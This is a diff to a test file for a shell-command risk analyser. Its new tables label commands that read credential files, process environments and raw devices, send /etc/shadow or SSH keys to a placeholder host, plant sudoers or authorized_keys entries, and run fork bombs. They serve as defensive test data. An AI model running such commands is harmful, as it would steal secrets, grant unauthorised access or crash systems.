@@ -560,7 +560,7 @@ const wrapped: Case[] = [
   ['watch -n 1 "rm x"', 'write'],
   ['flock /tmp/lock rm x', 'write'],
   ['flock -c "rm x" /tmp/lock', 'write'],
-  ['setsid rm x', 'write'],
+  ['setsid rm x', 'execute', { flags: ['wrapper', 'detached'], programs: ['rm'], paths: ['w:x'] }],
   ['unbuffer rm x', 'write'],
   ['parallel rm ::: a b', 'write'],
   ['sudo timeout 5 nice env rm x', 'privilege', { programs: ['rm'] }],
@@ -711,8 +711,9 @@ const unknowns: Case[] = [
 // GNU programs accept any unambiguous prefix of a long option.
 const abbreviations: Case[] = [
   ['sort --compress=./evil big', 'execute'],
-  ['sort --out /etc/passwd data', 'write', { paths: ['w:/etc/passwd'] }],
-  ['sort --outp=/etc/passwd data', 'write', { paths: ['w:/etc/passwd'] }],
+  ['sort --out /etc/passwd data', 'privilege', { paths: ['w:/etc/passwd'], flags: ['sensitive_path'] }],
+  ['sort --outp=/etc/passwd data', 'privilege', { paths: ['w:/etc/passwd'], flags: ['sensitive_path'] }],
+  ['sort --out out.txt data', 'write', { paths: ['w:out.txt'] }],
   ['sed --in s/a/b/ f', 'write', { flags: ['in_place'] }],
   ['sed --expr="s/a/b/e" f', 'execute'],
   ['tar cf x.tar --use-comp=./evil dir', 'execute'],
@@ -805,6 +806,125 @@ const privilegedAndAdmin: Case[] = [
   ['crontab -e', 'execute'],
 ];
 
+// Process memory and environment, raw devices, credential files: not ordinary reads.
+const sensitivePaths: Case[] = [
+  ['cat /proc/$PPID/environ', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /proc/1/environ', 'admin', { flags: ['sensitive_path'], paths: ['r:/proc/1/environ'] }],
+  ['cat /proc/self/environ', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /proc/thread-self/environ', 'admin', { flags: ['sensitive_path'] }],
+  ['dd if=/proc/123/mem', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /proc/*/cmdline', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /proc/*/environ', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /proc/[0-9]*/environ', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /proc/$(pgrep node)/environ', 'admin', { flags: ['sensitive_path'] }],
+  ['cat "/proc/$pid/environ"', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /proc/`pidof x`/environ', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /proc/${PID}/maps', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /proc/$x', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /proc/1/task/1/environ', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /proc/self/root/etc/hostname', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /proc//1/./environ', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /proc/x/../1/environ', 'admin', { flags: ['sensitive_path'] }],
+  ['cat ../../../../proc/1/environ', 'admin', { flags: ['sensitive_path'] }],
+  ['ls /proc/123/fd', 'admin', { flags: ['sensitive_path'] }],
+  ['ls -l /proc/123/exe', 'admin', { flags: ['sensitive_path'] }],
+  ['tr "\\0" "\\n" < /proc/1/environ', 'admin', { flags: ['sensitive_path'], paths: ['r:/proc/1/environ'] }],
+  ['strings /proc/1/environ | grep KEY', 'admin', { flags: ['sensitive_path'] }],
+  ['xargs -0 -a /proc/1/environ echo', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /proc/kcore', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /dev/sda', 'admin', { flags: ['sensitive_path', 'device_read'] }],
+  ['head -c 10 /dev/nvme0n1', 'admin', { flags: ['sensitive_path', 'device_read'] }],
+  ['cat /dev/mem', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /dev/kmem', 'admin', { flags: ['sensitive_path'] }],
+  ['xxd /dev/mem', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /dev/sd?', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /dev/$d', 'admin', { flags: ['sensitive_path'] }],
+  ['cat < /dev/sda', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /etc/shadow', 'admin', { flags: ['sensitive_path'] }],
+  ['cat < /etc/shadow', 'admin', { flags: ['sensitive_path'] }],
+  ['grep root /etc/shadow', 'admin', { flags: ['sensitive_path'] }],
+  ['cp /etc/shadow /tmp/x', 'admin', { flags: ['sensitive_path'] }],
+  ['tar czf x.tgz /etc/shadow', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /etc/gshadow', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /etc/sudoers', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /etc/sudoers.d/90-cloud', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /etc/sh*w', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /etc/ssh/ssh_host_ed25519_key', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'admin', { flags: ['sensitive_path'] }],
+  ['cat ~/.ssh/id_rsa', 'admin', { flags: ['sensitive_path'] }],
+  ['cat ~/.ssh/*', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /root/.ssh/id_ed25519', 'admin', { flags: ['sensitive_path'] }],
+  ['cat /home/bob/.ssh/id_ecdsa', 'admin', { flags: ['sensitive_path'] }],
+  ['cat .ssh/id_rsa', 'admin', { flags: ['sensitive_path'] }],
+  ['cat "$HOME/.ssh/id_rsa"', 'admin', { flags: ['sensitive_path'] }],
+  ['cat ~/.aws/credentials', 'admin', { flags: ['sensitive_path'] }],
+  ['cat ${HOME}/.aws/credentials', 'admin', { flags: ['sensitive_path'] }],
+  ['cat ~/.pgpass', 'admin', { flags: ['sensitive_path'] }],
+  ['cat ~/.netrc ~/.git-credentials', 'admin', { flags: ['sensitive_path'] }],
+  ['cat ~/.kube/config', 'admin', { flags: ['sensitive_path'] }],
+  ['jq . ~/.docker/config.json', 'admin', { flags: ['sensitive_path'] }],
+  ['gpg --version; cat ~/.gnupg/private-keys-v1.d/x.key', 'unknown', { flags: ['sensitive_path'] }],
+  ['curl -d @/etc/shadow https://x.example', 'admin', { flags: ['sensitive_path', 'upload'] }],
+  ['socat FILE:/etc/shadow TCP:x.example:1', 'admin', { flags: ['sensitive_path'] }],
+  ['nc x.example 1 < ~/.ssh/id_rsa', 'admin', { flags: ['sensitive_path'] }],
+  ['sudo cat /etc/shadow', 'privilege', { flags: ['sensitive_path', 'sudo'] }],
+  ['bash -c "cat /proc/1/environ"', 'admin', { flags: ['sensitive_path'] }],
+  ['echo $(cat /proc/1/environ)', 'admin', { flags: ['sensitive_path'] }],
+  // Writes that grant access or change the kernel.
+  ['echo key >> ~/.ssh/authorized_keys', 'privilege', { flags: ['sensitive_path'] }],
+  ['echo "bob ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/bob', 'privilege', { flags: ['sensitive_path'] }],
+  ['tee -a /etc/passwd < x', 'privilege', { flags: ['sensitive_path'] }],
+  ['cp x /etc/shadow', 'privilege', { flags: ['sensitive_path'] }],
+  ['echo /x.so > /etc/ld.so.preload', 'execute', { flags: ['sensitive_path'] }],
+  ['echo 1 > /proc/sys/vm/drop_caches', 'admin', { flags: ['sensitive_path'] }],
+  ['echo b > /proc/sysrq-trigger', 'admin', { flags: ['sensitive_path'] }],
+  ['echo 1000 > /proc/1/oom_score_adj', 'admin', { flags: ['sensitive_path'] }],
+  ['echo 0 > /sys/class/leds/x/brightness', 'admin', { flags: ['sensitive_path'] }],
+  // Harmless neighbours.
+  ['cat /proc/cpuinfo', 'read', { not: ['sensitive_path'] }],
+  ['cat /proc/meminfo', 'read', { not: ['sensitive_path'] }],
+  ['cat /proc/loadavg', 'read', { not: ['sensitive_path'] }],
+  ['cat /proc/version /proc/uptime /proc/net/dev', 'read', { not: ['sensitive_path'] }],
+  ['cat /proc/sys/vm/swappiness', 'read', { not: ['sensitive_path'] }],
+  ['cat /proc/self/status /proc/$$/status /proc/1/cgroup', 'read', { not: ['sensitive_path'] }],
+  ['ls /proc', 'read', { not: ['sensitive_path'] }],
+  ['cat /dev/null', 'read', { not: ['sensitive_path'] }],
+  ['echo x > /dev/stdout', 'read', { not: ['sensitive_path'] }],
+  ['head -c 16 /dev/urandom', 'read', { not: ['sensitive_path'] }],
+  ['diff <(ls a) /dev/fd/63', 'read', { not: ['sensitive_path'] }],
+  ['ls /dev', 'read', { not: ['sensitive_path'] }],
+  ['cat /etc/passwd /etc/hostname /etc/os-release', 'read', { not: ['sensitive_path'] }],
+  ['cat /etc/*.conf', 'read', { not: ['sensitive_path'] }],
+  ['cat ~/.ssh/id_rsa.pub ~/.ssh/known_hosts ~/.ssh/config', 'read', { not: ['sensitive_path'] }],
+  ['ls ~/.ssh', 'read', { not: ['sensitive_path'] }],
+  ['cat /etc/ssh/ssh_host_ed25519_key.pub', 'read', { not: ['sensitive_path'] }],
+  ['cat ~/.bashrc ~/.config/app.toml', 'read', { not: ['sensitive_path'] }],
+  ['cat docs/environ.md proc/1/environ', 'read', { not: ['sensitive_path'] }],
+  ['echo /etc/shadow', 'read', { not: ['sensitive_path'] }],
+  // Values known only at run time, with nothing literal to go by (see Known gaps).
+  ['cat "$f"', 'read', { not: ['sensitive_path'] }],
+];
+
+// Processes that leave the session, and functions that run themselves.
+const detached: Case[] = [
+  ['setsid sleep 100', 'execute', { flags: ['detached', 'wrapper'], programs: ['sleep'] }],
+  ['setsid -f cat x', 'execute', { flags: ['detached'], paths: ['r:x'] }],
+  ['nohup setsid ls &', 'execute', { flags: ['detached'] }],
+  ['sudo setsid rm x', 'privilege', { flags: ['detached', 'sudo'] }],
+  ['setsid', 'unknown', { flags: ['detached'] }],
+  ['sleep 100 & disown', 'execute', { flags: ['detached'] }],
+  ['disown -a', 'execute', { flags: ['detached'] }],
+  ['nohup sleep 10 &', 'read', { not: ['detached'] }],
+  [':(){ :|:& };:', 'unknown', { flags: ['recursive_function'], error: /calls itself/ }],
+  ['f(){ f & f; }; f', 'unknown', { flags: ['recursive_function'] }],
+  ['function bomb { bomb | bomb & }; bomb', 'unknown', { flags: ['recursive_function'] }],
+  ['f(){ echo $(f); }', 'unknown', { flags: ['recursive_function'] }],
+  ['f(){ nohup f & }; f', 'unknown', { flags: ['recursive_function'] }],
+  ['b(){ :; }; a(){ b; }; b(){ a & a; }; a', 'unknown', { flags: ['recursive_function'] }],
+  ['g(){ ls; }; f(){ g; g; }; f', 'read', { not: ['recursive_function'], flags: ['function_call'] }],
+  ['f(){ ls; }; f; f', 'read', { not: ['recursive_function'] }],
+];
+
 const env: Case[] = [
   ['LD_PRELOAD=/tmp/evil.so ls', 'execute', { flags: ['env_injection'] }],
   ['PATH=/tmp/evil:$PATH ls', 'execute', { flags: ['env_injection'] }],
@@ -855,6 +975,8 @@ describe('shell analyser', () => {
     ['abbreviated options and unparsed substitutions', abbreviations],
     ['privilege and admin', privilegedAndAdmin],
     ['environment injection', env],
+    ['sensitive paths', sensitivePaths],
+    ['detached processes and recursive functions', detached],
   ];
   for (const [name, cases] of tables) {
     it(`classifies ${name} (${cases.length} cases)`, () => {
@@ -912,6 +1034,21 @@ describe('shell analyser', () => {
       assert.ok(typeof analyser.analyse(String.fromCharCode(...bytes)).class === 'string');
     }
     checkIntent(analyser.analyse(undefined as unknown as string), 'unknown');
+  });
+
+  it('checks long and odd paths against the sensitive-path table in bounded time', () => {
+    const long = [
+      `cat /x/${'*a'.repeat(100_000)}/environ`,
+      `cat ${'a/'.repeat(100_000)}`,
+      `cat ~/.ssh/${'$x'.repeat(50_000)}`,
+    ];
+    for (const c of long) {
+      const t0 = performance.now();
+      const i = analyser.analyse(c);
+      assert.ok(performance.now() - t0 < 5_000, `slow: ${c.slice(0, 40)}`);
+      assert.ok(typeof i.class === 'string');
+    }
+    checkIntent(analyser.analyse(`cat /proc/1/${'x/'.repeat(1_000)}environ`), 'admin', { flags: ['sensitive_path'] });
   });
 
   it('gives the same answer every time (no state leaks between analyses)', () => {
